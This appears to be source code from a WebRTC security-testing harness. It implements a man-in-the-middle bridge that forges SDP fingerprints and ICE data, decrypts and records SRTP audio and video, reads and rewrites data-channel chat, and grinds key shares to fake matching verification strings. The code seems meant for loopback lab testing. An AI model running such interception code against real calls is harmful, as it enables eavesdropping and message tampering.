#include "attacks/mitm_bridge.hpp"
#include "attacks/sdp_rules.hpp"

#include <cctype>
#include <set>

#include "attacks/media_recorder.hpp"
#include "attacks/sctp.hpp"
#include "attacks/sdp_rewrite.hpp"
#include "attacks/vp8_recorder.hpp"
#include "net/dtls_endpoint.hpp"
#include "net/ice_agent.hpp"
#include "net/srtp_session.hpp"
#include "trust/out_of_band.hpp"

namespace sigtrust::attacks {

// One victim-facing leg: an ICE agent and a DTLS endpoint of the attacker's.
struct Leg {
  std::string victim;
  std::unique_ptr<IceAgent> ice;
  std::unique_ptr<DtlsEndpoint> dtls;
  std::optional<LocalIce> local;
  bool ready = false;
  std::vector<std::vector<std::uint8_t>> early_in, early_out;
  std::vector<std::string> pending_data;  // plaintext waiting for this leg to connect
  std::optional<std::pair<std::string, std::string>> remote_credentials;  // the victim's ufrag, pwd
  std::vector<sdp::Candidate> early_candidates;  // trickled before the victim's SDP
  // What went through this leg, for the account of a leg that fails.
  std::uint64_t datagrams_in = 0, datagrams_out = 0, sends_failed = 0;
  // Browsers carry data channels: SCTP packets inside DTLS (RFC 8261). Set
  // when the first record from this victim is one; then every record from it
  // is forwarded as it came (or with a chat payload rewritten) and decoded.
  bool sctp = false;
  sctp::ChatDecoder chat;
  // RFC 5764: media from this victim is SRTP keyed by this leg's handshake;
  // the attacker unprotects with `srtp_in` and protects what goes to this
  // victim with `srtp_out`. Set when the leg negotiated use_srtp.
  std::optional<SrtpContext> srtp_in, srtp_out;
  // Media for this victim (unprotected, with its RTCP flag) that arrived from
  // the other before this leg was keyed: a real attacker holds it rather than
  // let the call lose its first packets.
  std::vector<std::pair<std::vector<std::uint8_t>, bool>> pending_media;
  // a=rtpmap of the SDP this victim sent: payload type -> {kind, codec}.
  std::map<int, std::pair<std::string, std::string>> payload_types;
  // Toward the offerer: its ICE data from the offer, for the agent once the
  // offerer has read the answer (kOffererChecksDelay), and the timer that gives it.
  std::optional<sdp::TransportInfo> deferred_remote;
  Timer remote_timer;
};

namespace {

// Datagrams or messages a leg holds while it is not up yet.
constexpr size_t kMaxQueued = 64;

// The attacker's agent toward the offerer learns the offerer's ICE data from
// the offer but takes it up (answers the offerer's checks, starts its own)
// only kOffererChecksDelay after the offerer's first connectivity check
// reached it — the check names the forged answer's ufrag, so the offerer is
// reading the answer — or kOffererChecksLatest after the answer went out if
// no check comes. Taken up at once, the offerer's ICE can be up the moment it
// reads the answer, before it has stored the answer's fingerprint: measured
// with libdatachannel 0.24.5 (node-datachannel 0.33.4), whose ICE then
// connects inside setRemoteDescription and starts DTLS with no remote
// fingerprint, or hashing with sha-256 an answer that named sha-1
// (libdatachannel issue #1390, PR #1612). It refused the attacker in about one
// cell in ten, a fault of the race rather than a check, which a real attacker
// sidesteps by waiting a moment. So does this one; a victim that checks the
// fingerprint still refuses. Counting the moment from the answer's delivery
// instead lost the race once in ~130 libdatachannel-offered cells of a loaded
// CI run (2026-12-03): the answer reached a starved offerer late.
constexpr auto kOffererChecksDelay = std::chrono::milliseconds(100);
constexpr auto kOffererChecksLatest = std::chrono::seconds(2);

// RFC 8866 §6.6 a=rtpmap:<payload type> <encoding name>/<clock rate>[/<channels>], per m= section.
std::map<int, std::pair<std::string, std::string>> rtp_payload_types(const sdp::Session& s) {
  std::map<int, std::pair<std::string, std::string>> out;
  for (const auto& m : s.media)
    for (const auto& a : m.attributes) {
      if (a.name != "rtpmap" || !a.value) continue;
      const auto space = a.value->find(' ');
      if (space == std::string::npos || space == 0 || space > 3) continue;
      int pt = 0;
      for (size_t k = 0; k < space; ++k) {
        if ((*a.value)[k] < '0' || (*a.value)[k] > '9') pt = -1;
        if (pt >= 0) pt = pt * 10 + ((*a.value)[k] - '0');
      }
      if (pt < 0 || pt > 127) continue;
      out[pt] = {m.media, a.value->substr(space + 1, 64)};
    }
  return out;
}

// What the attacker writes of one SSRC: Opus as WAV, VP8 as IVF.
struct Recording {
  std::string codec;  // the encoding name it records: "opus" or "vp8"
  std::unique_ptr<OpusWavRecorder> opus;
  std::unique_ptr<Vp8IvfRecorder> vp8;
  // A payload of encoding `name`. False when it did not decode (Opus) or was
  // malformed or ended an incomplete frame (VP8). Another encoding on the same
  // SSRC (FEC, comfort noise) is not recorded; in video it takes its sequence number.
  bool add(const RtpHeader& h, const std::string& name, std::span<const std::uint8_t> payload) {
    if (name != codec) {
      if (vp8) vp8->add(h.sequence, h.timestamp, h.marker, {});
      return true;
    }
    return opus ? opus->add(payload) : vp8->add(h.sequence, h.timestamp, h.marker, payload);
  }
};

// RFC 2198 (RED, which Chromium wraps video in): the primary block's payload
// type and data, after the 4-byte headers of the redundant blocks and their
// data. nullopt when the headers or lengths run past the payload.
std::optional<std::pair<int, std::span<const std::uint8_t>>> red_primary(std::span<const std::uint8_t> p) {
  size_t at = 0, redundant = 0;
  for (; at < p.size() && (p[at] & 0x80); at += 4) {
    if (at + 4 > p.size()) return std::nullopt;
    redundant += static_cast<size_t>(((p[at + 2] & 0x03) << 8) | p[at + 3]);
  }
  if (at >= p.size() || at + 1 + redundant > p.size()) return std::nullopt;
  return std::pair{p[at] & 0x7f, p.subspan(at + 1 + redundant)};
}

// The encoding name of an a=rtpmap value ("VP8/90000" -> "vp8").
std::string encoding_name(const std::string& rtpmap) {
  std::string name = rtpmap.substr(0, rtpmap.find('/'));
  for (auto& c : name) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return name;
}

// Logs the 1st, 2nd, 4th, 8th… occurrence: a flood of bad packets stays a few lines.
bool worth_logging(std::uint64_t n) { return n != 0 && (n & (n - 1)) == 0; }

// Only UDP candidates on loopback reach the attacker's agents: a browser also
// offers TCP, IPv6 and other interfaces, and a run never sends off loopback.
bool usable_candidate(const sdp::Candidate& c) {
  return (c.transport == "UDP" || c.transport == "udp") && c.address.rfind("127.", 0) == 0;
}

std::string describe(const sctp::ChannelMessage& m) {
  using K = sctp::ChannelMessage::Kind;
  switch (m.kind) {
    case K::Text: return m.data;
    case K::EmptyText: return "";
    case K::Binary: return "(" + std::to_string(m.data.size()) + " bytes of binary data)";
    case K::EmptyBinary: return "(0 bytes of binary data)";
    default: return {};
  }
}

}  // namespace

struct MitmBridge::RoomBridge {
  MitmBridge& bridge;
  std::string room;
  Leg legs[2];  // 0: toward the offerer, 1: toward the answerer
  std::optional<sdp::Session> offer;
  Deliver deliver_offer;
  std::string offer_text;
  RelayedMessage offer_msg;
  bool offer_forwarded = false;
  bool grind_started = false;
  std::map<std::uint32_t, Recording> recorders;  // by SSRC
  std::set<std::uint32_t> recording_tried;  // SSRCs whose recording started or could not

  RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {
    // A channel is opened by one side and used by both: one table of labels.
    auto channels = std::make_shared<sctp::ChannelTable>();
    for (auto& l : legs) l.chat = sctp::ChatDecoder(channels);
  }

  AttackerSessionReport& report() { return bridge.world_.sessions[room]; }
  void event(const std::string& kind, const std::string& text) {
    bridge.world_.timeline.add(bridge.world_.name, kind, text);
  }

  void make_leg(int i, bool controlling) {
    Leg& leg = legs[i];
    leg.ice = std::make_unique<IceAgent>(
        bridge.world_.loop, IceOptions{bridge.world_.address, controlling, std::nullopt, std::nullopt, false},
        IceCallbacks{
            .on_gathered =
                [this, i](const LocalIce& l) {
                  legs[i].local = l;
                  maybe_forward_offer();
                },
            .on_state =
                [this, i](IceState s) {
                  if (s == IceState::Failed) event("attack.leg-failed", "ICE failed toward " + legs[i].victim);
                },
            .on_ready =
                [this, i](const SelectedPair& p) {
                  Leg& l = legs[i];
                  l.ready = true;
                  event("attack.leg-ready", "ICE toward " + l.victim + ": " + p.local + " -> " + p.remote);
                  auto out = std::move(l.early_out);
                  l.early_out.clear();
                  for (auto& d : out)
                    if (l.ice->send(d)) ++l.datagrams_out;
                  if (l.dtls && l.dtls->role() == DtlsRole::Client) l.dtls->start();
                },
            .on_datagram =
                [this, i](std::span<const std::uint8_t> d) {
                  report().ciphertext_bytes += d.size();
                  Leg& l = legs[i];
                  ++l.datagrams_in;
                  if (is_rtp_or_rtcp(d)) return relay_media(i, d);  // RFC 7983 §7
                  if (l.dtls) l.dtls->receive(d);
                  else if (l.early_in.size() < kMaxQueued) l.early_in.emplace_back(d.begin(), d.end());
                },
            .on_first_check =
                [this, i] {
                  if (i == 0) take_offerer_ice_after(kOffererChecksDelay);
                },
        });
    leg.ice->gather();
  }

  // sas-grind-mitm: once the client leg holds its key exchange and the
  // other leg is up (its SAS fixed) or gone, the client leg decides.
  void maybe_grind() {
    const BridgeOptions& o = bridge.options_;
    if (grind_started || o.grind_budget == 0) return;
    for (int c = 0; c < 2; ++c) {
      Leg& client = legs[c];
      Leg& other = legs[1 - c];
      if (!client.dtls || !client.dtls->flight_held() || !other.dtls) continue;
      const auto state = other.dtls->state();
      if (state == DtlsEndpoint::State::Handshaking || state == DtlsEndpoint::State::Idle) return;
      grind_started = true;
      std::optional<std::string> target;
      if (state == DtlsEndpoint::State::Connected)
        if (auto bytes = other.dtls->export_keying_material(kSasExporterLabel, kSasExporterBytes))
          target = render_sas(*bytes, o.grind_bits);
      if (!target) {
        event("attack.grind", "the leg toward " + other.victim + " is not up: no SAS to match; sending " +
                                  client.victim + " the first key share");
        return client.dtls->grind(
            kSasExporterLabel, kSasExporterBytes, [](const auto&) { return false; }, 1, [](const GrindResult&) {});
      }
      event("attack.grind", other.victim + "'s SAS is " + *target + "; trying up to " + std::to_string(o.grind_budget) +
                                " key shares toward " + client.victim + " for the same string");
      const unsigned bits = o.grind_bits;
      return client.dtls->grind(
          kSasExporterLabel, kSasExporterBytes,
          [target = *target, bits](const std::vector<std::uint8_t>& b) { return render_sas(b, bits) == target; },
          o.grind_budget,
          [this, c, target = *target](const GrindResult& r) {
            AttackerSessionReport& rep = report();
            rep.grind_tries = r.tries;
            rep.grind_matched = r.found;
            char rate[64];
            std::snprintf(rate, sizeof rate, "%.2f s, %.0f tries/s", r.seconds,
                          r.seconds > 0 ? static_cast<double>(r.tries) / r.seconds : 0.0);
            event("attack.grind", !r.error.empty() ? "gave up after " + std::to_string(r.tries) + " tries: " + r.error
                                  : r.found        ? "try " + std::to_string(r.tries) + " gives " + legs[c].victim +
                                                  " the SAS " + target + " too (" + rate + "); sent that key share"
                                            : "no try of " + std::to_string(r.tries) + " gives " + target + " (" +
                                                  rate + "); sent the first key share");
          });
    }
  }

  void make_dtls(int i, DtlsRole role) {
    Leg& leg = legs[i];
    DtlsOptions dtls_options;
    dtls_options.hold_key_exchange = bridge.options_.grind_budget > 0 && role == DtlsRole::Client;
    leg.dtls = std::make_unique<DtlsEndpoint>(
        bridge.world_.loop, bridge.cert_, role,
        DtlsCallbacks{
            .send =
                [this, i](std::span<const std::uint8_t> d) {
                  Leg& l = legs[i];
                  if (!l.ready) {
                    if (l.early_out.size() < kMaxQueued) l.early_out.emplace_back(d.begin(), d.end());
                    return;
                  }
                  // Once ICE is up, a datagram libnice does not take is lost,
                  // as on a network: DTLS retransmits it.
                  if (l.ice->send(d)) ++l.datagrams_out;
                  else if (worth_logging(++l.sends_failed))
                    event("attack.leg-send-failed", "libnice did not send a datagram toward " + l.victim + " (" +
                                                        std::to_string(l.sends_failed) + " so far)");
                },
            // The attacker accepts whatever the victim presents: it only needs
            // the victim to accept *its* certificate.
            .verify = [](std::span<const std::uint8_t>) { return true; },
            .on_connected =
                [this, i] {
                  Leg& l = legs[i];
                  ++report().dtls_legs;
                  report().certificate_fingerprint = bridge.cert_.fingerprint();
                  // RFC 5764: the leg carries use_srtp when the victim offered
                  // (or, as server, answered) it: as server the attacker took
                  // the first profile the victim listed that GnuTLS has.
                  const auto profile = l.dtls->srtp_profile();
                  report().legs_connected.push_back(l.victim);
                  report().srtp_profiles[l.victim] = profile ? std::string(to_string(*profile)) : "";
                  if (profile) key_media(i);
                  send_pending_media(i);
                  event("attack.leg-connected", "DTLS with " + l.victim + " established as " +
                                                    std::string(to_string(l.dtls->role())) + ", DTLS-SRTP " +
                                                    (profile ? std::string(to_string(*profile)) : "not negotiated"));
                  auto pending = std::move(l.pending_data);
                  l.pending_data.clear();
                  for (const auto& p : pending) l.dtls->send(p);
                  maybe_grind();
                },
            .on_failed =
                [this, i](const std::string& why) {
                  const Leg& l = legs[i];
                  event("attack.leg-failed", l.victim + ": " + why + " (" + std::to_string(l.datagrams_in) +
                                                 " datagrams in, " + std::to_string(l.datagrams_out) + " out, " +
                                                 std::to_string(l.sends_failed) + " not sent)");
                  maybe_grind();
                },
            .on_data = [this, i](std::string_view data) { relay_data(i, std::string(data)); },
            .on_closed = nullptr,
            .key_log = bridge.world_.key_log,
            .on_flight_held = [this] { maybe_grind(); },
        },
        dtls_options);
    for (auto& d : leg.early_in) leg.dtls->receive(d);
    leg.early_in.clear();
    if (leg.ready && role == DtlsRole::Client) leg.dtls->start();
  }

  // RFC 5764 §4.2: this leg's SRTP keys, from its own handshake.
  void key_media(int i) {
    Leg& l = legs[i];
    auto keys = l.dtls->srtp_keys();
    if (!keys) return event("attack.media", l.victim + ": no SRTP keys: " + keys.error().message);
    auto in = SrtpContext::make(*keys, l.dtls->role(), SrtpContext::Direction::Inbound);
    auto out = SrtpContext::make(*keys, l.dtls->role(), SrtpContext::Direction::Outbound);
    if (!in || !out) return event("attack.media", l.victim + ": " + (in ? out.error() : in.error()).message);
    l.srtp_in.emplace(std::move(*in));
    l.srtp_out.emplace(std::move(*out));
  }

  // What waited for leg `i` to be keyed goes out now (or, without SRTP on it, is refused).
  void send_pending_media(int i) {
    Leg& to = legs[i];
    auto pending = std::move(to.pending_media);
    to.pending_media.clear();
    for (auto& [p, rtcp] : pending) forward_media(legs[1 - i], to, std::move(p), rtcp);
  }

  void reject_media(const Leg& from, const std::string& why) {
    AttackerSessionReport& rep = report();
    if (worth_logging(++rep.media_rejected))
      event("attack.media-rejected",
            "packet from " + from.victim + ": " + why + " (" + std::to_string(rep.media_rejected) + " so far)");
  }

  // An unprotected packet from `from`'s victim, protected for `to`'s and sent.
  void forward_media(const Leg& from, Leg& to, std::vector<std::uint8_t> p, bool rtcp) {
    if (!to.srtp_out || !to.ready) return reject_media(from, "the other leg has no SRTP");
    if (!to.srtp_out->protect(p, rtcp)) return reject_media(from, "protect failed");
    to.ice->send(p);
  }

  // One RTP or RTCP packet from a victim: unprotected with its leg's keys,
  // recorded, protected with the other leg's keys and sent on. Media is
  // forwarded unchanged; whatever fails is counted and logged, then dropped.
  void relay_media(int from, std::span<const std::uint8_t> datagram) {
    Leg& l = legs[from];
    Leg& to = legs[1 - from];
    AttackerSessionReport& rep = report();
    auto reject = [&](const std::string& why) { reject_media(l, why); };
    if (!l.srtp_in) return reject("RTP/RTCP before DTLS-SRTP keys (or without use_srtp)");
    std::vector<std::uint8_t> p(datagram.begin(), datagram.end());
    const bool rtcp = is_rtcp(p);
    if (!l.srtp_in->unprotect(p, rtcp)) return reject(rtcp ? "SRTCP unprotect failed" : "SRTP unprotect failed");
    if (rtcp) {
      ++rep.rtcp_packets;
    } else {
      const auto h = parse_rtp(p);
      if (!h) return reject("malformed RTP header");
      auto& stream = rep.media[h->ssrc];
      if (stream.packets == 0) {
        stream.from = l.victim;
        // The sender's SDP names its payload types; the other's, if it did not.
        for (const Leg* sdp_of : {&l, &to})
          if (auto pt = sdp_of->payload_types.find(h->payload_type); pt != sdp_of->payload_types.end()) {
            stream.kind = pt->second.first;
            stream.codec = pt->second.second;
            break;
          }
        stream.payload_type = h->payload_type;
        event("attack.media", "reading " + (stream.kind.empty() ? std::string("RTP") : stream.kind) + " from " +
                                  l.victim + " (SSRC " + std::to_string(h->ssrc) + ", payload type " +
                                  std::to_string(h->payload_type) + (stream.codec.empty() ? "" : " " + stream.codec) +
                                  ")");
      }
      ++stream.packets;
      stream.bytes += h->payload_size;
      record(l, to, *h, std::span(p).subspan(h->header_size, h->payload_size), stream);
    }
    // The other leg still in its handshake: held (2.5 s of 20 ms audio at most) until it is keyed.
    const bool handshaking = !to.dtls || to.dtls->state() == DtlsEndpoint::State::Idle ||
                             to.dtls->state() == DtlsEndpoint::State::Handshaking;
    if ((!to.srtp_out || !to.ready) && handshaking) {
      if (to.pending_media.size() >= 2 * kMaxQueued) return reject("the other leg has no SRTP yet and holds enough");
      to.pending_media.emplace_back(std::move(p), rtcp);
      return;
    }
    forward_media(l, to, std::move(p), rtcp);
  }

  // The codec an SDP names for a payload type: the sender's, or the other's if it did not.
  static std::string codec_of(const Leg& l, const Leg& to, int payload_type) {
    for (const Leg* sdp_of : {&l, &to})
      if (auto pt = sdp_of->payload_types.find(payload_type); pt != sdp_of->payload_types.end())
        return pt->second.second;
    return {};
  }

  // One payload to its SSRC's recording, RED unwrapped; the recording starts
  // with the first Opus or VP8 payload of the SSRC, whose codec the stream then reports.
  void record(const Leg& l, const Leg& to, const RtpHeader& h, std::span<const std::uint8_t> payload,
              AttackerSessionReport::MediaStream& stream) {
    std::string codec = codec_of(l, to, h.payload_type);
    if (encoding_name(codec) == "red") {
      const auto primary = red_primary(payload);
      if (!primary) return void(++stream.undecodable);
      codec = codec_of(l, to, primary->first);
      payload = primary->second;
    }
    const std::string name = encoding_name(codec);
    auto r = recorders.find(h.ssrc);
    if (r == recorders.end() && (name == "opus" || name == "vp8") && !bridge.world_.media_dir.empty() &&
        recording_tried.insert(h.ssrc).second) {
      stream.codec = codec;
      start_recording(h.ssrc, stream);
      r = recorders.find(h.ssrc);
    }
    if (r != recorders.end() && !r->second.add(h, name, payload)) ++stream.undecodable;
  }

  // Opus is decoded to a WAV file per SSRC, VP8 reassembled into an IVF
  // file per SSRC, when the world says where.
  void start_recording(std::uint32_t ssrc, AttackerSessionReport::MediaStream& stream) {
    const std::string& dir = bridge.world_.media_dir;
    const std::string codec = encoding_name(stream.codec);
    if (dir.empty() || (codec != "opus" && codec != "vp8") || recorders.size() >= 16) return;
    const std::string path = dir + "/" + safe_file_part(room) + "-" + safe_file_part(stream.from) + "-" +
                             std::to_string(ssrc) + (codec == "opus" ? ".wav" : ".ivf");
    Recording rec{codec, nullptr, nullptr};
    std::string error;
    if (codec == "opus") {
      auto r = OpusWavRecorder::open(path);
      if (r) rec.opus = std::move(*r);
      else error = r.error().message;
    } else {
      auto r = Vp8IvfRecorder::open(path);
      if (r) rec.vp8 = std::move(*r);
      else error = r.error().message;
    }
    if (!error.empty()) return event("attack.media", "cannot record: " + error);
    recorders[ssrc] = std::move(rec);
    stream.files.push_back(path);
  }

  void relay_data(int from, std::string text) {
    Leg& l = legs[from];
    const auto bytes = std::span(reinterpret_cast<const std::uint8_t*>(text.data()), text.size());
    if (!l.sctp) {
      const auto packet = sctp::parse_packet(bytes);
      l.sctp = packet && packet->checksum_ok && !packet->chunk_types.empty();
      if (l.sctp)
        event("attack.sctp", l.victim + " speaks SCTP (a data channel): forwarding packets, decoding the chat");
    }
    if (l.sctp) text = read_sctp(from, std::move(text));
    else text = read_plaintext(bridge.world_, report(), l.victim, std::move(text));
    Leg& to = legs[1 - from];
    if (to.dtls && to.dtls->state() == DtlsEndpoint::State::Connected) to.dtls->send(text);
    else if (to.pending_data.size() < kMaxQueued) to.pending_data.push_back(std::move(text));
  }

  // One SCTP packet from a victim: records each whole chat message it
  // completes, applies the rewrite rules to text messages, and returns the
  // packet to forward (unchanged unless a rule matched).
  std::string read_sctp(int from, std::string packet) {
    AttackWorld& w = bridge.world_;
    const auto bytes = std::span(reinterpret_cast<const std::uint8_t*>(packet.data()), packet.size());
    for (const auto& m : legs[from].chat.feed(bytes)) {
      using K = sctp::ChannelMessage::Kind;
      if (m.kind == K::Open) {
        event("attack.read",
              legs[from].victim + " opened data channel \"" + m.label + "\" (stream " + std::to_string(m.stream) + ")");
      } else if (m.kind != K::Ack && m.kind != K::Other) {
        const std::string text = describe(m);
        report().plaintext_read.push_back(text);
        w.timeline.add(
            w.name, "attack.read",
            "read \"" + text.substr(0, 200) + "\" from " + legs[from].victim + " on channel \"" + m.label + "\"");
      }
    }
    if (w.rewrite.empty()) return packet;
    auto rewritten = sctp::rewrite_packet(
        bytes, [&](std::uint16_t, std::uint32_t ppid, std::string_view payload) -> std::optional<std::string> {
          if (ppid != sctp::kPpidString) return std::nullopt;
          std::string out = apply_rewrites(w, report(), std::string(payload));
          if (out == payload) return std::nullopt;
          return out;
        });
    return rewritten ? std::string(rewritten->begin(), rewritten->end()) : packet;
  }

  // A trickled candidate (RFC 8838) is the victim's, for the attacker's own
  // agent facing it: absorbed, never forwarded (the other victim would learn
  // where its real peer is).
  void on_candidate(const RelayedMessage& m, const SignalingMessage& msg) {
    const int i = offer && m.from_index != offer_msg.from_index ? 1 : 0;
    std::string line = msg.candidate.is_object() ? msg.candidate.value("candidate", "") : "";
    if (line.rfind("candidate:", 0) == 0) line.erase(0, 10);
    if (line.empty()) return;  // end of candidates
    auto c = sdp::parse_candidate(line);
    if (!c)
      return event("attack.ignored-candidate", m.from_label + " sent an unreadable candidate: " + c.error().message);
    if (!usable_candidate(*c))
      return event("attack.ignored-candidate",
                   m.from_label + ": " + c->transport + " " + c->address + " is not UDP on loopback");
    Leg& leg = legs[i];
    if (!leg.ice || !leg.remote_credentials) {
      if (leg.early_candidates.size() < kMaxQueued) leg.early_candidates.push_back(*c);
      return;
    }
    add_remote(i, {*c});
  }

  // Gives the leg's agent the victim's credentials (once) and candidates.
  void add_remote(int i, std::vector<sdp::Candidate> candidates) {
    Leg& leg = legs[i];
    std::vector<sdp::Candidate> usable;
    std::string ignored;
    for (auto& c : candidates) {
      if (usable_candidate(c)) usable.push_back(std::move(c));
      else ignored += (ignored.empty() ? "" : ", ") + c.transport + " " + c.address + ":" + std::to_string(c.port);
    }
    if (!ignored.empty())
      event("attack.ignored-candidate",
            leg.victim + ": left out what is not UDP on loopback: " + ignored.substr(0, 300));
    const auto& [ufrag, pwd] = *leg.remote_credentials;
    auto added = leg.ice->set_remote(ufrag, pwd, usable);
    if (!added) event("attack.leg-failed", leg.victim + "'s ICE data unusable: " + added.error().message);
  }

  void set_remote_ice(int i, const sdp::TransportInfo& info) {
    Leg& leg = legs[i];
    if (!info.ice_ufrag || !info.ice_pwd) return;
    leg.remote_credentials = {*info.ice_ufrag, *info.ice_pwd};
    auto candidates = info.candidates;
    candidates.insert(candidates.end(), leg.early_candidates.begin(), leg.early_candidates.end());
    leg.early_candidates.clear();
    add_remote(i, std::move(candidates));
  }

  std::string fingerprint_action() const {
    switch (bridge.options_.style) {
      case FingerprintStyle::Swap: return "and its own fingerprint";
      case FingerprintStyle::Strip: return "and removed a=fingerprint";
      case FingerprintStyle::Append: return "and appended its own fingerprint";
      case FingerprintStyle::Prepend: return "and put its own fingerprint before the real one";
      case FingerprintStyle::Downgrade:
        return "and added its own fingerprint under " + bridge.options_.downgrade_hash + " after the real one";
      case FingerprintStyle::HashSwap: return "and its own fingerprint under " + bridge.options_.downgrade_hash;
      case FingerprintStyle::Keep:
        return "kept the fingerprints and applied its " + std::to_string(bridge.options_.sdp_rules.size()) +
               " SDP rule(s)";
    }
    return "";
  }

  std::string forge(const sdp::Session& original, const LocalIce& ice, SignalingMessage::Type type) {
    std::string out = forge_sdp(original, ice, bridge.cert_, bridge.options_);
    return bridge.rules_ ? bridge.rules_->apply(out, type) : out;
  }

  void on_offer(const RelayedMessage& m, SignalingMessage msg, Deliver deliver) {
    auto parsed = sdp::parse(msg.sdp);
    if (!parsed) {
      event("attack.skipped", "cannot parse the offer: " + parsed.error().message + "; forwarded unchanged");
      return deliver(m.text);
    }
    legs[0].victim = m.from_label;
    legs[1].victim = m.to_label;
    auto info = sdp::transport_info(*parsed);
    legs[0].payload_types = rtp_payload_types(*parsed);
    offer = std::move(*parsed);
    offer_text = msg.sdp;
    offer_msg = m;
    deliver_offer = std::move(deliver);
    // Toward the offerer the attacker is the answering, controlled agent;
    // toward the answerer it is the offering, controlling one (RFC 8445 §6.1.1).
    make_leg(0, false);
    make_leg(1, true);
    legs[0].deferred_remote = std::move(info);
    maybe_forward_offer();
  }

  void maybe_forward_offer() {
    if (offer_forwarded || !offer || !legs[0].local || !legs[1].local) return;
    offer_forwarded = true;
    SignalingMessage out{
        SignalingMessage::Type::Offer, forge(*offer, *legs[1].local, SignalingMessage::Type::Offer), {}, {}};
    record_rewrite(bridge.world_.timeline, bridge.world_.name, offer_msg,
                   "substituted its ICE credentials and candidates, " + fingerprint_action() + ", in the offer",
                   offer_text, out.sdp);
    deliver_offer(serialize(out));
  }

  void on_answer(const RelayedMessage& m, SignalingMessage msg, const Deliver& deliver) {
    // One answer per offer, from the client the offer went to.
    if (offer_forwarded && (m.from_index == offer_msg.from_index || legs[1].dtls)) {
      event("attack.skipped", "a second answer, or one from the offerer, in room " + room + "; dropped");
      return;
    }
    auto parsed = sdp::parse(msg.sdp);
    if (!parsed || !offer_forwarded) {
      event("attack.skipped", "cannot bridge this answer; forwarded unchanged");
      return deliver(m.text);
    }
    auto info = sdp::transport_info(*parsed);
    legs[1].payload_types = rtp_payload_types(*parsed);
    set_remote_ice(1, info);
    // The answerer chose its role; the attacker mirrors it toward the offerer,
    // so each victim gets the role its own a=setup implies.
    const bool answerer_active = info.setup.value_or("active") != "passive";
    make_dtls(1, answerer_active ? DtlsRole::Server : DtlsRole::Client);
    make_dtls(0, answerer_active ? DtlsRole::Client : DtlsRole::Server);
    SignalingMessage out{
        SignalingMessage::Type::Answer, forge(*parsed, *legs[0].local, SignalingMessage::Type::Answer), {}, {}};
    record_rewrite(bridge.world_.timeline, bridge.world_.name, m,
                   "substituted its ICE credentials and candidates, " + fingerprint_action() + ", in the answer",
                   msg.sdp, out.sdp);
    deliver(serialize(out));
    // The offerer's first check (it can come only after this answer) shortens this.
    take_offerer_ice_after(kOffererChecksLatest);
  }

  // Gives the agent toward the offerer the offer's ICE data after `delay`,
  // replacing a later time set before; once given, never again.
  void take_offerer_ice_after(std::chrono::milliseconds delay) {
    if (!legs[0].deferred_remote) return;
    legs[0].remote_timer = bridge.world_.loop.after(delay, [this] {
      if (auto offered = std::exchange(legs[0].deferred_remote, std::nullopt)) set_remote_ice(0, *offered);
    });
  }
};

std::string read_plaintext(AttackWorld& world, AttackerSessionReport& report, const std::string& from,
                           std::string text) {
  report.plaintext_read.push_back(text);
  world.timeline.add(world.name, "attack.read", "read \"" + text.substr(0, 200) + "\" from " + from);
  return apply_rewrites(world, report, std::move(text));
}

std::string apply_rewrites(AttackWorld& world, AttackerSessionReport& report, std::string text) {
  for (const auto& r : world.rewrite) {
    const auto pos = r.from.empty() ? std::string::npos : text.find(r.from);
    if (pos == std::string::npos) continue;
    const std::string before = text;
    text.replace(pos, r.from.size(), r.to);
    report.rewritten.push_back(before + " -> " + text);
    world.timeline.add(world.name, "attack.rewrite-data",
                       "changed \"" + before.substr(0, 200) + "\" to \"" + text.substr(0, 200) + "\"");
  }
  return text;
}

std::string forge_sdp(const sdp::Session& original, const LocalIce& ice, const Certificate& cert,
                      const BridgeOptions& o) {
  std::vector<sdp::Fingerprint> fps;
  switch (o.style) {
    case FingerprintStyle::Strip: break;
    case FingerprintStyle::Swap: fps.push_back(cert.fingerprint()); break;
    case FingerprintStyle::Append:
      fps = sdp::transport_info(original).fingerprints;
      fps.push_back(cert.fingerprint());
      break;
    case FingerprintStyle::Prepend:
      fps.push_back(cert.fingerprint());
      for (auto& fp : sdp::transport_info(original).fingerprints) fps.push_back(std::move(fp));
      break;
    // A real downgrade: the peer's own (sha-256) fingerprint stays, so a
    // receiver that follows RFC 8122 §5 and uses the most preferred hash
    // still checks against it; one that accepts a match under any hash
    // listed takes the attacker's weaker line.
    case FingerprintStyle::Downgrade:
      fps = sdp::transport_info(original).fingerprints;
      if (auto fp = cert.fingerprint(o.downgrade_hash)) fps.push_back(*fp);
      break;
    case FingerprintStyle::HashSwap:
      if (auto fp = cert.fingerprint(o.downgrade_hash)) fps.push_back(*fp);
      break;
    case FingerprintStyle::Keep: fps = sdp::transport_info(original).fingerprints; break;
  }
  sdp::Session s = original;
  set_transport(s, ice);
  set_fingerprints(s, fps);
  for (const auto& a : o.strip_attributes) {
    sdp::remove_all(s, -1, a);
    for (size_t k = 0; k < s.media.size(); ++k) sdp::remove_all(s, static_cast<int>(k), a);
  }
  return sdp::write(s);
}

MitmBridge::MitmBridge(AttackWorld& world, BridgeOptions options)
    : world_(world), options_(std::move(options)), cert_(world.name) {
  world_.present_certificate(cert_);
  if (!options_.sdp_rules.empty()) rules_ = std::make_unique<SdpRules>(options_.sdp_rules, cert_.fingerprint());
}

MitmBridge::~MitmBridge() = default;

void MitmBridge::on_room_closed(const std::string& room) { rooms_.erase(room); }

void MitmBridge::on_message(const RelayedMessage& m, Deliver deliver) {
  auto msg = parse_signaling(m.text);
  if (!msg) return deliver(m.text);
  auto& room = rooms_[m.room];
  if (!room) room = std::make_unique<RoomBridge>(*this, m.room);
  switch (msg->type) {
    case SignalingMessage::Type::Offer:
      // A new offer in a room (a reloaded page, a restarted app): a new
      // bridge, new legs, a new certificate exchange; the old one goes.
      if (room->offer) {
        world_.timeline.add(world_.name, "attack.rebridge", "a new offer in room " + m.room + ": bridging it afresh");
        room = std::make_unique<RoomBridge>(*this, m.room);
        auto& report = world_.sessions[m.room];  // what it read before stays in the report
        report.dtls_legs = 0;
        report.legs_connected.clear();
        report.srtp_profiles.clear();
      }
      return room->on_offer(m, std::move(*msg), std::move(deliver));
    case SignalingMessage::Type::Answer: return room->on_answer(m, std::move(*msg), deliver);
    case SignalingMessage::Type::Candidate: return room->on_candidate(m, *msg);
    case SignalingMessage::Type::Bye:
      if (options_.forward_bye) return deliver(m.text);
      world_.timeline.add(world_.name, "attack.dropped",
                          "dropped the bye from " + m.from_label + " to " + m.to_label +
                              ": the other victim is not told that its peer hung up");
      return;
    default: return deliver(m.text);
